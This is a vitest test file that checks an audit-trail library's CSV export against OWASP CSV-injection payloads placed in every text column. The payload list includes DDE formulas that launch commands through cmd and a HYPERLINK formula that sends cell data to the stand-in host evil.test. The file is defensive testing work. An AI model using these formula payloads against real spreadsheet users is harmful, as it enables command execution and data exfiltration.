import { Writable } from 'node:stream'
import { beforeAll, describe, expect, it } from 'vitest'
import { CSV_COLUMNS, writeEntries } from '@audit-trail/core'
import { entryRow } from './entry-row.js'
import { useLogDatabase } from '../support/log-database.js'

// S3: OWASP CSV-injection payloads (https://owasp.org/www-community/attacks/CSV_Injection) in
// every text column of the log; the exported file must show each as text: a leading `'`.
const PAYLOADS = [
  `=cmd|' /C calc'!A0`,
  `=HYPERLINK("http://evil.test/?x="&A1,"click")`,
  `+1+1`,
  `-1+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `\t=1+1`,
  `\r=1+1`,
  `＝1+1`,
  `=1,2\r\n=3`,
]
const TEXT_COLUMNS = [
  'log_name', 'actor_id', 'actor_name', 'actor_email', 'impersonator_id', 'impersonator_name', 'resource_type', 'resource_id',
  'resource_name', 'description', 'user_agent', 'location_id', 'tenant_id', 'request_id',
] as const

const { db, log } = useLogDatabase()

beforeAll(async () => {
  await writeEntries(
    db.pool,
    PAYLOADS.map((p) =>
      entryRow({
      ...Object.fromEntries(TEXT_COLUMNS.map((c) => [c, p])),
      actor_type: 'user',
      action: 'updated',
      source: 'manual',
      changes: { [p]: { old: p, new: p } },
      changed_fields: [p],
      metadata: { note: p },
    })),
  )
  // Bug (found by S3): a jsonb column whose whole value is a string (metadata written by SQL)
  // was exported as the bare string, not as JSON; its cell must be the JSON text ("=…").
  await db.query(`INSERT INTO audit_trail.activity_log (log_name, actor_type, action, source, metadata) VALUES ('backoffice', 'system', 'login', 'manual', to_jsonb($1::text))`, [PAYLOADS[0]])
})

/** RFC 4180 parser: rows of cells. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let cell = ''
  let quoted = false
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"'
        i++
      } else if (ch === '"') quoted = false
      else cell += ch
    } else if (ch === '"') quoted = true
    else if (ch === ',') {
      row.push(cell)
      cell = ''
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell)
      rows.push(row)
      row = []
      cell = ''
      i++
    } else cell += ch
  }
  if (cell !== '' || row.length > 0) {
    row.push(cell)
    rows.push(row)
  }
  return rows
}

describe('S3 CSV export', () => {
  it('neutralises every formula payload in every column', async () => {
    let text = ''
    const sink = new Writable({ write: (chunk: Buffer, _enc, done) => ((text += chunk.toString('utf8')), done()) })
    const { rows } = await log.exportCsv({}, sink)
    expect(rows).toBe(PAYLOADS.length + 1)
    const [header, ...lines] = parseCsv(text)
    expect(header).toEqual([...CSV_COLUMNS])
    expect(lines).toHaveLength(PAYLOADS.length + 1)
    const col = (name: string) => header!.indexOf(name)
    // No cell anywhere starts with a character a spreadsheet would evaluate.
    const dangerous = lines.flatMap((line) => line.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell)))
    expect(dangerous).toEqual([])
    for (const line of lines.filter((l) => l[col('action')] === 'updated')) {
      const payload = PAYLOADS.find((p) => line[col('actor_id')] === `'${p}`)
      expect(payload, `row ${line[0]}`).toBeDefined()
      for (const c of TEXT_COLUMNS) expect(line[col(c)], c).toBe(`'${payload}`)
      expect(JSON.parse(line[col('changes')]!)).toEqual({ [payload!]: { old: payload, new: payload } })
      expect(JSON.parse(line[col('changed_fields')]!)).toEqual([payload])
      expect(JSON.parse(line[col('metadata')]!)).toEqual({ note: payload })
    }
    const scalar = lines.find((l) => l[col('action')] === 'login')!
    expect(scalar[col('metadata')]).toBe(JSON.stringify(PAYLOADS[0]))
  })
})
